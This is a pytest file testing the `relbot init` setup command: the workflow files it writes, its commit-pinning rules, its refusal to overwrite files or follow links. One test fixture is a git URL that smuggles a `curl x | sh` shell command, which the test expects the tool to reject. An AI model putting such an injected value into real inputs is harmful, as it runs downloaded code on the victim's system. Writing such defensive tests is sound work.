"""`relbot init`: reads the repository, says what it found, sets up what fits, and overwrites nothing."""

from __future__ import annotations

import json
import shlex
from typing import TYPE_CHECKING

import pytest
import yaml

from relbot.adoption.relbot_source import FromAction, FromNowhere, FromRequirement, find_source
from relbot.config.read import read_config
from tests.cli.fragments import FIXED, tree
from tests.cli.init_files import ACTION, COMMIT, HUB, written

if TYPE_CHECKING:
    from pathlib import Path

    from tests.commandline import Run
    from tests.repository import Repo


WORKFLOWS = [f".github/workflows/relbot{name}.yml" for name in ("", "-fragments", "-comment")]
OURS = ["relbot.toml", "changes/README.md"]
FILES = [*OURS, *WORKFLOWS]


def test_it_writes_its_files_and_stages_none(repo: Repo, relbot: Run) -> None:
    done = relbot("init", *ACTION)
    assert (done.code, done.err) == (0, "")
    assert written(done.out) == FILES
    assert sorted(repo.git("ls-files", "--others").splitlines()) == sorted(FILES)
    assert repo.git("ls-files") == ""


def test_what_it_wrote_is_valid(repo: Repo, relbot: Run) -> None:
    relbot("init", *ACTION)
    assert relbot("check").code == 0
    assert relbot("build", "--draft").code == 4
    assert read_config("relbot.toml", (repo.path / "relbot.toml").read_text()) is not None
    workflows = [yaml.safe_load((repo.path / path).read_text()) for path in WORKFLOWS]
    jobs = {name: job for workflow in workflows for name, job in workflow["jobs"].items()}
    assert all(workflow["permissions"] == {} for workflow in workflows)
    assert jobs["check"]["permissions"] == jobs["fragments"]["permissions"] | {"pull-requests": "read"}
    assert jobs["comment"]["permissions"] == {"contents": "read", "pull-requests": "write"}
    assert jobs["record"]["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert "github.event.pull_request.merged" in jobs["record"]["if"]
    action = {"uses": f"someone/relbot@{COMMIT}"}
    assert [job["steps"][-1] for name, job in jobs.items() if name in ("comment", "record")] == [action, action]
    assert jobs["check"]["steps"] == [{**action, "with": {"comment": "false"}}]
    assert f"uses: someone/relbot@{COMMIT} # v0.1.0\n" in (repo.path / WORKFLOWS[0]).read_text()
    assert [step.get("run") for step in jobs["fragments"]["steps"][-2:]] == [
        f"pip install 'relbot @ git+https://github.com/someone/relbot@{COMMIT}'",
        "relbot check",
    ]
    reading = [name for name, job in jobs.items() if any("checkout" in step.get("uses", "") for step in job["steps"])]
    assert reading == ["fragments"]  # which runs what was merged, and no pull request


def test_without_knowing_where_relbot_is_there_is_no_workflow(repo: Repo, relbot: Run) -> None:
    """First hour F1: a workflow that installs a name from an index runs the code of whoever registers it."""
    repo.git("remote", "add", "origin", HUB)
    done = relbot("init")
    assert (done.code, written(done.out)) == (0, OURS)
    assert "relbot init --action OWNER/relbot@COMMIT" in done.out


@pytest.mark.parametrize(
    "action", ["someone/relbot", "someone/relbot@v1", "someone/relbot@main", f"someone/relbot@{COMMIT[:12]}"]
)
def test_an_action_that_can_be_moved_is_refused(repo: Repo, relbot: Run, action: str) -> None:
    refused = relbot("init", "--action", action)
    assert refused.code == 2
    assert "40 digits" in refused.err
    assert not (repo.path / "relbot.toml").exists()


def test_a_hash_makes_a_requirement_that_nothing_else_can_take_the_place_of() -> None:
    digest = f"sha256:{'a' * 64}"
    git = {"vcs_info": {"vcs": "git", "commit_id": COMMIT}}
    told: list[tuple[dict[str, object] | None, tuple[str, ...], object]] = [
        (None, (digest,), FromRequirement("relbot==1.2", (digest,))),
        ({"url": "https://github.com/acme/relbot.git", **git}, (), FromAction("acme/relbot", COMMIT, "v1.2")),
        ({"url": "https://git.example.org/relbot", **git}, (), FromRequirement(f"relbot @ git+https://git.example.org/relbot@{COMMIT}")),
        ({"url": "https://example.org/r.whl", "archive_info": {"hashes": {"sha256": "a" * 64}}}, (),
         FromRequirement("relbot @ https://example.org/r.whl", (digest,))),
    ]  # fmt: skip
    for url, hashes, source in told:
        assert find_source("1.2", None if url is None else json.dumps(url), hashes, installed=True) == source
    unknown: list[dict[str, object] | None] = [
        None,
        {"url": "file:///home/me/relbot", "dir_info": {"editable": True}},
        {"url": "https://example.org/r.whl", "archive_info": {}},
        {"url": "file:///home/me/relbot", **git},
        {"url": "https://me:secret@git.example.org/relbot", **git},
        {"url": "https://git.example.org/'; curl x | sh; '", **git},
    ]
    for url in unknown:
        found = find_source("1.2", None if url is None else json.dumps(url), (), installed=True)
        assert isinstance(found, FromNowhere), url
    assert isinstance(find_source("1.2", "[", (), installed=True), FromNowhere)
    assert isinstance(find_source("1.2", None, (digest,), installed=False), FromNowhere)


@pytest.mark.parametrize(
    ("remote", "said"),
    [("https://gitlab.com/acme/widgets.git", "this is GitLab"), ("https://codeberg.org/acme/widgets", "another forge")],
)
def test_elsewhere_than_on_github_it_says_what_to_run(repo: Repo, relbot: Run, remote: str, said: str) -> None:
    repo.git("remote", "add", "origin", remote)
    done = relbot("init", *ACTION)
    assert written(done.out) == OURS
    assert said in done.out
    assert "relbot check --base origin/main" in done.out


def test_the_examples_in_the_readme_are_fragments(repo: Repo, relbot: Run) -> None:
    relbot("init")
    text = (repo.path / "changes/README.md").read_text()
    code = "\n".join(line[4:] for line in text.splitlines() if line.startswith("    ") or not line)
    first, second = (f"---\ntype: {example}" for example in code.split("---\ntype: ")[1:])
    repo.write("changes/one.md", first)
    repo.write("changes/two.md", second)
    checked = relbot("check")
    assert (checked.code, checked.out) == (0, "")


def test_it_overwrites_nothing(repo: Repo, relbot: Run) -> None:
    for path in FILES:
        repo.write(path, "# mine\n")
    before = tree(repo)
    done = relbot("init", *ACTION)
    assert done.code == 0
    assert written(done.out) == []
    assert tree(repo) == before


@pytest.mark.parametrize("path", FILES)
def test_it_writes_what_is_missing_and_keeps_the_rest(repo: Repo, relbot: Run, path: str) -> None:
    repo.write(path, "# mine\n")
    assert relbot("init", *ACTION).code == 0
    assert (repo.path / path).read_text() == "# mine\n"
    assert all((repo.path / other).is_file() for other in FILES)


def test_a_second_run_changes_nothing_and_says_what_would_be_different(repo: Repo, relbot: Run) -> None:
    relbot("init", *ACTION, "--yes")
    before = tree(repo)
    again = relbot("init", "--yes")
    assert again.code == 0
    assert tree(repo) == before
    assert "different" not in again.out
    assert "No GitHub workflow" not in again.out  # the one that is there says where relbot is
    repo.commit("Begin")
    repo.tag("release-1.0")
    repo.write(WORKFLOWS[0], (repo.path / WORKFLOWS[0]).read_text().replace("merge_group:", ""))
    before = tree(repo)
    told = relbot("init")
    assert tree(repo) == before
    assert 'tag = "release-{version}"' in told.out
    assert f"{WORKFLOWS[0]} differs from what" in told.out
    assert "+  merge_group:" in told.out
    assert relbot("init", "--replace").code == 0
    assert "merge_group:" in (repo.path / WORKFLOWS[0]).read_text()


def test_a_workflow_of_an_older_relbot_is_named(repo: Repo, relbot: Run) -> None:
    repo.git("remote", "add", "origin", HUB)
    repo.write(WORKFLOWS[0], "jobs:\n  check:\n    steps:\n      - run: pip install relbot==0.1.0\n      - run: relbot pr\n")
    told = relbot("init")
    assert "installs `relbot==0.1.0`" in told.out
    assert relbot("init", "--replace", *ACTION).code == 0
    assert "relbot==0.1.0" not in (repo.path / WORKFLOWS[0]).read_text()


def test_a_configuration_in_pyproject_is_enough(repo: Repo, relbot: Run) -> None:
    repo.write("pyproject.toml", '[tool.relbot]\ndirectory = "news"\n')
    done = relbot("init")
    assert done.code == 0
    assert not (repo.path / "relbot.toml").exists()
    assert (repo.path / "news/README.md").is_file()
    assert not (repo.path / "changes").exists()


def test_a_link_is_not_followed(repo: Repo, relbot: Run) -> None:
    outside = repo.path.parent / "outside"
    outside.write_text("mine\n")
    (repo.path / "changes").mkdir()
    (repo.path / "changes/README.md").symlink_to(outside)
    (repo.path / "AGENTS.md").symlink_to(outside)
    assert relbot("init", "--yes", "--replace").code == 0
    assert outside.read_text() == "mine\n"


def test_a_folder_that_is_a_file_is_told_and_nothing_is_changed(repo: Repo, relbot: Run) -> None:
    repo.write(".github", "a file\n")
    before = tree(repo)
    refused = relbot("init", *ACTION)
    assert refused.code == 3
    assert ".github" in refused.err
    assert tree(repo) == before


def test_fragments_that_are_there_stay(repo: Repo, relbot: Run) -> None:
    repo.write("changes/login.md", FIXED)
    assert relbot("init").code == 0
    assert (repo.path / "changes/login.md").read_text() == FIXED


def test_outside_of_git_it_writes_nothing(tmp_path: Path, relbot: Run) -> None:
    """First hour F2."""
    folder = tmp_path / "alone"
    folder.mkdir()
    refused = relbot("init", cwd=folder)
    assert refused.code == 2
    assert "git init" in refused.err
    assert not list(folder.iterdir())


def test_the_commands_that_it_names_next_work_on_main(repo: Repo, relbot: Run) -> None:
    """First hour F2: the command that it named failed on main."""
    repo.commit("Begin")
    commands = relbot("init").out.rpartition("Next:\n")[2].splitlines()
    assert len(commands) == 3
    for command in commands:
        assert relbot(*shlex.split(command)[1:]).code == 0, command
